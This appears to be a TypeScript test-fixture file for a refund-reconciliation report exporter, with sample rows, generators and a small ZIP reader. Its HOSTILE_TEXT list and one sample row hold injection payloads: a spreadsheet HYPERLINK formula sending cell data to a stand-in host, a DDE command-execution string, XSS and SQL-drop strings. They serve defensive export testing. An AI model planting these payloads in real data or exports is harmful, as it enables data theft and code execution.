import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { inflateRawSync } from 'node:zlib';
import type { ReportInput, ReportRow } from '../../../src/main/reports/report-model';

/** Strings an attacker can plant in order references, memos, hints, names. */
export const HOSTILE_TEXT = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0\u2003=1',
  '\u200b=1',
  '\uFF1D1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE results; --",
  'line one\r\nline "two", with comma',
  'NUL\u0000byte and bell\u0007',
  'lone surrogate \uD800 here',
  '<svg onload=alert(1)>',
  '</style><script>x</script>',
  '&amp; &lt; already-escaped',
  'https://evil.example/x.png',
];

export function makeRow(overrides: Partial<ReportRow> = {}): ReportRow {
  return {
    code: 'amount_mismatch',
    severity: 'error',
    orderRef: '#1001',
    currency: 'USD',
    date: '2026-01-02',
    storefrontRefundId: '900001',
    storefrontTotal: 1234,
    netsuiteDocuments: 'CR1001, CUSTREF7',
    netsuiteTotal: 1235,
    difference: -1,
    hint: 'NetSuite recorded 12.35; the storefront refunded 12.34.',
    annotationStatus: 'open',
    annotationReason: '',
    ...overrides,
  };
}

/** A small run with every kind of row the exporters must handle. */
export function sampleRows(): ReportRow[] {
  return [
    makeRow(),
    makeRow({
      code: 'matched',
      severity: 'ok',
      orderRef: '#1002',
      storefrontTotal: 5000,
      netsuiteTotal: 5000,
      difference: 0,
      hint: 'Totals and lines agree.',
    }),
    makeRow({
      code: 'missing_in_netsuite',
      severity: 'error',
      orderRef: '#1003',
      currency: 'JPY',
      date: '2026-01-03',
      storefrontTotal: 1200,
      netsuiteTotal: null,
      netsuiteDocuments: '',
      difference: 1200,
      hint: 'No NetSuite record for this refund.',
    }),
    makeRow({
      code: 'missing_in_storefront',
      severity: 'error',
      orderRef: '#1004',
      currency: 'BHD',
      date: '2026-01-04',
      storefrontRefundId: null,
      storefrontTotal: null,
      netsuiteTotal: 1005,
      netsuiteDocuments: 'CR2001',
      difference: -1005,
      hint: 'No storefront refund for this NetSuite record.',
      annotationStatus: 'explained',
      annotationReason: 'Refunded by hand in NetSuite, see ticket 12',
    }),
    makeRow({
      code: 'rounding',
      severity: 'info',
      orderRef: '#1005',
      currency: 'EUR',
      date: null,
      storefrontTotal: 1999,
      netsuiteTotal: 2000,
      difference: -1,
      hint: 'Within tolerance.',
    }),
    makeRow({
      code: 'general_refund',
      severity: 'warning',
      orderRef: '-1006',
      storefrontTotal: 123456789,
      netsuiteTotal: 123456789,
      difference: 0,
      hint: '=HYPERLINK("http://evil.example","x")',
      annotationReason: '@evil',
    }),
  ];
}

export function makeInput(
  rows: Iterable<ReportRow> | AsyncIterable<ReportRow>,
  overrides: Partial<ReportInput> = {},
): ReportInput {
  return {
    title: 'Refund reconciliation — January 2026',
    generatedAt: '2026-02-01T10:00:00Z',
    workspaceName: 'Acme books',
    run: {
      id: 42,
      storefrontLabel: 'Shopify — Acme US (snapshot 12)',
      netsuiteLabel: 'NetSuite 1234567 (snapshot 13)',
      rules: { tolerance: '0.01', dateWindowDays: 7, lineItems: 'auto' },
      startedAt: '2026-02-01T09:00:00Z',
    },
    filtersDescription: 'None',
    summary: {
      byCode: {
        amount_mismatch: 1,
        matched: 1,
        missing_in_netsuite: 1,
        missing_in_storefront: 1,
        rounding: 1,
        general_refund: 1,
      },
      totals: {
        USD: { storefront: 123463023, netsuite: 123463024, difference: -1 },
        JPY: { storefront: 1200, netsuite: 0, difference: 1200 },
        BHD: { storefront: 0, netsuite: 1005, difference: -1005 },
        EUR: { storefront: 1999, netsuite: 2000, difference: -1 },
      },
    },
    signOff: { preparer: { name: 'Ann Preparer', at: '2026-02-01T11:00:00Z' } },
    rows,
    ...overrides,
  };
}

/** Generated rows, never held in memory: a generator. */
export function* generatedRows(count: number): Generator<ReportRow> {
  const currencies = ['USD', 'EUR', 'JPY', 'BHD', 'GBP'];
  const codes = ['matched', 'amount_mismatch', 'rounding', 'missing_in_netsuite', 'line_mismatch'] as const;
  const severities = {
    matched: 'ok',
    amount_mismatch: 'error',
    rounding: 'info',
    missing_in_netsuite: 'error',
    line_mismatch: 'error',
  } as const;
  for (let i = 0; i < count; i++) {
    const code = codes[i % codes.length]!;
    const sf = 1000 + ((i * 7919) % 500_000);
    const ns = code === 'matched' ? sf : code === 'missing_in_netsuite' ? null : sf - (i % 97) - 1;
    yield {
      code,
      severity: severities[code],
      orderRef: `#${100000 + i}`,
      currency: currencies[i % currencies.length]!,
      date: `2026-01-${String((i % 28) + 1).padStart(2, '0')}`,
      storefrontRefundId: String(9_000_000 + i),
      storefrontTotal: sf,
      netsuiteDocuments: ns === null ? '' : `CR${i}, CUSTREF${i}`,
      netsuiteTotal: ns,
      difference: ns === null ? sf : sf - ns,
      hint: 'The NetSuite total differs from the storefront refund; check the Cash Refund lines.',
      annotationStatus: i % 11 === 0 ? 'explained' : 'open',
      annotationReason: i % 11 === 0 ? 'Known FarApp rounding' : '',
    };
  }
}

export function tempDir(prefix = 'reports-'): { dir: string; cleanup: () => void } {
  const dir = mkdtempSync(path.join(tmpdir(), prefix));
  return { dir, cleanup: () => rmSync(dir, { recursive: true, force: true }) };
}

/** A Writable that collects everything written into one Buffer. */
export function memorySink(): { stream: Writable; buffer: () => Buffer } {
  const chunks: Buffer[] = [];
  const stream = new Writable({
    write(chunk: Buffer | string, _encoding, callback) {
      chunks.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(chunk));
      callback();
    },
  });
  return { stream, buffer: () => Buffer.concat(chunks) };
}

/** Minimal ZIP reader (central directory + raw inflate) to inspect the XML inside an XLSX independently of exceljs. */
export function readZipEntries(zip: Buffer): Map<string, Buffer> {
  let eocd = -1;
  for (let i = zip.length - 22; i >= Math.max(0, zip.length - 65_557); i--) {
    if (zip.readUInt32LE(i) === 0x06054b50) {
      eocd = i;
      break;
    }
  }
  if (eocd < 0) throw new Error('not a zip file');
  const count = zip.readUInt16LE(eocd + 10);
  let offset = zip.readUInt32LE(eocd + 16);
  const entries = new Map<string, Buffer>();
  for (let n = 0; n < count; n++) {
    if (zip.readUInt32LE(offset) !== 0x02014b50) throw new Error('bad central directory');
    const method = zip.readUInt16LE(offset + 10);
    const compressedSize = zip.readUInt32LE(offset + 20);
    const nameLength = zip.readUInt16LE(offset + 28);
    const extraLength = zip.readUInt16LE(offset + 30);
    const commentLength = zip.readUInt16LE(offset + 32);
    const local = zip.readUInt32LE(offset + 42);
    const name = zip.subarray(offset + 46, offset + 46 + nameLength).toString('utf8');
    const dataStart = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(dataStart, dataStart + compressedSize);
    entries.set(name, method === 0 ? Buffer.from(data) : inflateRawSync(data));
    offset += 46 + nameLength + extraLength + commentLength;
  }
  return entries;
}
